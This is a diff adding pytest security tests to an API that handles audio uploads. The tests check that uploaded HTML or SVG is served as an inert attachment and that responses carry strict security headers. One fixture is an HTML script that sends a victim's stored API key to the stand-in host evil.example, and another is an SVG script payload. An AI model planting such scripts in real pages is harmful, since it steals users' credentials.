@@ -346,3 +346,80 @@ def test_the_offered_model_can_be_asked_for_by_name(api: Api) -> None:
         response = http.post("/v1/jobs", json={"model": "auto"})
     assert response.status_code == 201, response.text
     assert response.json()["model"] == "auto"
+
+
+EVIL_HTML = b"<!doctype html><script>fetch('//evil.example/?k='+localStorage.apiKey)</script>"
+EVIL_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
+
+
+@pytest.mark.parametrize("filename", ["evil.html", "evil.svg", "evil.xhtml", "evil"])
+def test_an_uploaded_page_or_svg_is_never_active_content_on_the_apis_origin(
+    api: Api, filename: str
+) -> None:
+    content = EVIL_SVG if filename.endswith(".svg") else EVIL_HTML
+    body = register(api)
+    assert put(str(body["upload_url"]), content, filename).status_code == 200
+    with api.http() as http:
+        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
+    served = httpx.get(url, timeout=10)  # what a victim's browser gets when it opens the link
+    assert served.status_code == 200
+    assert served.headers["content-type"] == "application/octet-stream"
+    assert served.headers["x-content-type-options"] == "nosniff"
+    assert served.headers["content-security-policy"].startswith("sandbox")
+    assert served.headers["content-disposition"].startswith("attachment")
+
+
+def test_uploaded_audio_is_served_with_a_fixed_audio_type_as_an_attachment(api: Api) -> None:
+    body = register(api)
+    assert put(str(body["upload_url"]), b"ID3" + b"\0" * 500, "möte.mp3").status_code == 200
+    with api.http() as http:
+        url = http.get(f"/v1/jobs/{body['callback_id']}/audio-link").json()["url"]
+    served = httpx.get(url, headers={"Range": "bytes=0-2"}, timeout=10)
+    assert served.status_code == 206
+    assert served.content == b"ID3"
+    assert served.headers["content-type"] == "audio/mpeg"
+    assert served.headers["content-disposition"].startswith("attachment")
+    assert "sandbox" in served.headers["content-security-policy"]
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", "/healthz"),
+        ("GET", "/v1/jobs"),
+        ("POST", "/v1/jobs"),
+        ("GET", "/nope"),
+        ("GET", "/openapi.json"),
+        ("GET", "/docs"),
+        ("GET", "/"),
+        ("GET", "/web/app.js"),
+        ("PUT", "/v1/uploads/forged"),
+        ("GET", "/v1/objects/forged"),
+    ],
+)
+def test_every_response_carries_the_security_headers(api: Api, method: str, path: str) -> None:
+    with httpx.Client(base_url=api.url, timeout=10) as http:
+        response = http.request(method, path)
+    headers = response.headers
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["referrer-policy"] == "no-referrer"
+    assert headers["x-frame-options"] == "DENY"
+    policy = headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in policy
+    assert "'unsafe-inline'" not in policy.split("style-src")[0], "no inline script anywhere"
+    if headers["content-type"].startswith("application/json"):
+        assert policy.startswith("default-src 'none'")
+
+
+def test_the_api_docs_page_allows_only_its_own_inline_script_by_hash(api: Api) -> None:
+    import base64
+    import hashlib
+    import re
+
+    with httpx.Client(base_url=api.url, timeout=10) as http:
+        page = http.get("/docs")
+    assert page.status_code == 200
+    scripts = re.findall(r"<script>(.*?)</script>", page.text, re.S)
+    assert len(scripts) == 1
+    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
+    assert f"'sha256-{digest}'" in page.headers["content-security-policy"]
